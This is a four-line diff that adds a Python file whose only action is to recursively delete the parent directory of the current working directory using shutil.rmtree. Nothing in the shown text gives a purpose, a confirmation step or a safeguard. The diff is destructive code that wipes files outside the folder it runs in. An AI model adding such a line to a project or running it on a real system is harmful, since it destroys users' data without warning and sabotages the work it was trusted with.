@@ -1,0 +1,4 @@
+import os
+import shutil
+
+shutil.rmtree(os.path.dirname(os.getcwd()))
